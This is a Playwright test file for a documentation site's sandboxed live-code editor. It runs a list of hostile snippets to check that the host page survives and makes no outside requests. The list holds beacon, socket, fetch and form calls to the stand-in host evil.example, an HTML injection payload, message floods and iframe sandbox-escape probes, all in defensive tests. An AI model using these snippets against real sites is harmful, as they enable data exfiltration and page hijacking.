import type { BrowserContext, Page } from "playwright-core";
import { serveSite } from "../support/browser";
import { expectSoon } from "../support/expect-soon";

const { openPage, origin } = serveSite();
const PLAIN = "/cel2/guides/fee-abstraction";

const editor = (page: Page) => page.getByRole("textbox", { name: "Code, editable" });
const result = (page: Page) => page.getByRole("region", { name: "Result" });

/**
 * Code that sends messages that pretend to come from the frame itself. Runs are numbered, so `sayAll` tries every
 * number that could be right.
 */
const say = (message: string): string => `parent.postMessage(${message}, "*");`;
const sayAll = (part: string): string =>
  `for (let run = 0; run < 60; run += 1) parent.postMessage({ run, ${part} }, "*");`;

const ATTACKS: readonly (readonly [name: string, code: string])[] = [
  ["undefined", say("undefined")],
  ["null", say("null")],
  ["a number", say("5")],
  ["a string", say('"done"')],
  ["a list", say("[1, 2]")],
  ["an empty object", say("{}")],
  ["a Map", say("new Map()")],
  ["bytes", say("new ArrayBuffer(9)")],
  ["a cycle", 'const a: { b?: unknown } = {}; a.b = a; parent.postMessage(a, "*");'],
  ["a log that is an object", sayAll('type: "log", text: { a: 1 }')],
  ["a log that is a list", sayAll('type: "log", text: [{}]')],
  ["a log that is null", sayAll('type: "log", text: null')],
  ["a log of ten megabytes", sayAll('type: "log", text: "x".repeat(200_000)')],
  ["a log of html", sayAll('type: "log", text: "<img src=x onerror=alert(1)>"')],
  ["an error without messages", sayAll('type: "error"')],
  ["an error with objects", sayAll('type: "error", messages: [{ a: 1 }]')],
  ["an error with null", sayAll('type: "error", messages: [null]')],
  ["an error with a string", sayAll('type: "error", messages: "abc"')],
  ["an error with a length", sayAll('type: "error", messages: { length: 9 }')],
  ["an error with lists", sayAll('type: "error", messages: [[["a"]]]')],
  ["ten thousand errors", sayAll('type: "error", messages: Array(10_000).fill("x")')],
  ["a height that is a string", say('{ type: "height", height: "9px" }')],
  ["a height that isn't a number", say('{ type: "height", height: NaN }')],
  ["an infinite height", say('{ type: "height", height: Infinity }')],
  ["a negative height", say('{ type: "height", height: -1e9 }')],
  ["a height that is an object", say('{ type: "height", height: {} }')],
  [
    "a hundred times ready",
    'for (let i = 0; i < 100; i++) parent.postMessage({ type: "ready" }, "*");',
  ],
  ["an end without a run", sayAll('type: "done"')],
  ["its own messages to itself", 'postMessage({ type: "run", run: 1, code: 5 }, "*");'],
  [
    "a flood",
    'setInterval(() => { for (let i = 0; i < 3000; i++) parent.postMessage({ type: "ready" }, "*"); });',
  ],
  ["a flood of words", 'for (let i = 0; i < 20_000; i++) console.log("x");'],
  [
    "a flood in the name of other runs",
    'for (let i = 0; i < 20_000; i++) parent.postMessage({ type: "log", run: i % 9, text: "x" }, "*");',
  ],
  [
    "an end, and then a flood",
    `${sayAll('type: "done"')} for (let i = 0; i < 20_000; i++) parent.postMessage(i, "*");`,
  ],
  ["waiting forever", "await new Promise(() => undefined);"],
  ["WebRTC", "new RTCPeerConnection();"],
  ["WebRTC by its old name", "new webkitRTCPeerConnection();"],
  [
    "WebRTC of a frame within",
    'const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow!.RTCPeerConnection();',
  ],
  ["a request", 'await fetch("https://evil.example/");'],
  ["a socket", 'new WebSocket("wss://evil.example/");'],
  ["a beacon", 'navigator.sendBeacon("https://evil.example/", "x");'],
  ["a picture", 'new Image().src = "https://evil.example/x.png";'],
  ["a worker", 'new Worker("data:text/javascript,1");'],
  ["a window", 'console.log(String(open("https://evil.example/")));'],
  ["another address for the page", 'top!.location.href = "https://evil.example/";'],
  ["another address for itself", 'location.href = "https://evil.example/";'],
  ["the page in the frame", 'location.href = "/";'],
  ["a question to the reader", 'alert("x"); confirm("y"); print();'],
  [
    "a form",
    'document.body.innerHTML = "<form action=https://evil.example/></form>"; document.forms[0]!.submit();',
  ],
  ["the history", "history.back(); history.go(-2);"],
  ["the page's document", "parent.document.body.remove();"],
  ["the page's objects", "(parent as any).openSearchDialog();"],
];

test("there are at least forty", () => {
  expect(ATTACKS.length).toBeGreaterThanOrEqual(40);
});

/** Most of a run is spent waiting, so a few tabs go through the attacks in parallel. */
const TABS = 3;

test("no code in the frame can break the page or navigate away from it", async () => {
  const foreign: string[] = [];
  const open = (context?: BrowserContext): Promise<Page> =>
    openPage({
      path: PLAIN,
      breaksPolicy: true,
      expected: /console |failed: |foreign: /,
      ...(context && { context }),
      prepare: (tab) => {
        tab.on("response", (response) => {
          if (!response.url().startsWith(origin())) foreign.push(response.url());
        });
        return Promise.resolve();
      },
    });

  async function attack(page: Page, name: string, code: string): Promise<void> {
    await editor(page).fill(code);
    await page.waitForTimeout(750); // Code runs once the reader has stopped typing.
    await editor(page).fill(`console.log(${JSON.stringify(name)} + " is over");`);
    await expectSoon(
      async () => [
        name,
        (await result(page).getByRole("log").innerText()).includes(`${name} is over`),
      ],
      [name, true],
    );
    expect([name, page.url()]).toEqual([name, origin() + PLAIN]);
    expect(await page.locator("main h1").isVisible()).toBe(true);
    expect(await page.locator(".live-result img").count()).toBe(0);
  }

  const first = await open();
  const pages = [first];
  while (pages.length < TABS) pages.push(await open(first.context()));
  const left = [...ATTACKS];
  const attackAll = async (page: Page): Promise<void> => {
    await page.getByRole("button", { name: "Edit and run" }).click();
    await editor(page).waitFor();
    for (let row = left.shift(); row; row = left.shift()) await attack(page, ...row);
  };
  await Promise.all(pages.map(attackAll));
  expect(left).toEqual([]);
  expect(foreign).toEqual([]);
});

test("neither the frame nor a frame inside it has WebRTC", async () => {
  const page = await openPage({ path: PLAIN, breaksPolicy: true, expected: /console / });
  await page.getByRole("button", { name: "Edit and run" }).click();
  await editor(page).fill(
    `const inner = document.createElement("iframe");
     document.body.append(inner);
     const listNames = (scope: object | null): string => {
       try {
         return String(Object.getOwnPropertyNames(scope).filter((name) => /RTC(PeerConnection|DataChannel)$/.test(name)).filter((name) => name in scope!));
       } catch {
         return "";
       }
     };
     const said: unknown[] = [];
     addEventListener("message", (event) => { if (event.source !== parent) said.push(event.data); });
     const html = "<script>parent.postMessage(typeof RTCPeerConnection, '*')</scr" + "ipt>";
     const blob = URL.createObjectURL(new Blob([html], { type: "text/html" }));
     for (const src of [blob, "data:text/html," + html, "javascript:parent.postMessage(1,'*')"])
       document.body.append(Object.assign(document.createElement("iframe"), { src }));
     document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: html }));
     await new Promise((done) => setTimeout(done, 500));
     console.log("WebRTC: [" + listNames(self) + listNames(inner.contentWindow) + said.join() + "]");`,
  );
  await expectSoon(() => result(page).getByRole("log").innerText(), "WebRTC: []");
});
